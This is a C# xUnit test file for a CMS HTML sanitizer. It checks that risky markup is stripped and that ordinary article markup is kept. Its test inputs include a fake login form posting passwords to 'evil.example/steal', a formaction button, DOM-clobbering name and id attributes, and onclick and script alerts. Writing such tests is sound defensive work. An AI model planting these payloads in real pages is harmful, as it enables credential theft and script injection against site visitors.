using MedTour.Cms.Content.Parts;

namespace MedTour.Cms.Tests.Content;

/// <summary>The content HTML policy (docs/html-sanitizing.md): article markup stays, anything that runs, posts or clobbers goes.</summary>
public sealed class HtmlSanitizerPolicyTests
{
    private static string Clean(string html) => HtmlSanitizerFactory.Create().Sanitize(html);

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"><button>Sign in</button></form>", "<form", "<input", "<button", "action=")]
    [InlineData("<p><button formaction=\"https://evil.example\">Go</button></p>", "<button", "formaction")]
    [InlineData("<img src=\"/a.png\" name=\"getElementById\" alt=\"x\">", "name=")]
    [InlineData("<a id=\"location\" href=\"/x\">x</a>", "id=")]
    [InlineData("<textarea>t</textarea><select><option>1</option></select><label>l</label><fieldset><legend>f</legend></fieldset>", "<textarea", "<select", "<option", "<label", "<fieldset", "<legend")]
    [InlineData("<p onclick=\"alert(1)\" style=\"color:red\">x</p><script>alert(2)</script>", "onclick", "style=", "<script")]
    public void Dropped(string html, params string[] gone)
    {
        var clean = Clean(html);
        Assert.All(gone, g => Assert.DoesNotContain(g, clean, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void Article_markup_stays()
    {
        const string html = "<figure><img src=\"/media/a.svg\" alt=\"A\" width=\"320\" height=\"180\" loading=\"lazy\"><figcaption>Cap</figcaption></figure>"
            + "<aside class=\"cta\" role=\"note\" aria-label=\"Help\"><h2>T</h2><a class=\"button\" href=\"/eu/consultation\">Go</a></aside>"
            + "<details><summary>More</summary><p>Text</p></details>";

        Assert.Equal(html, Clean(html));
    }
}
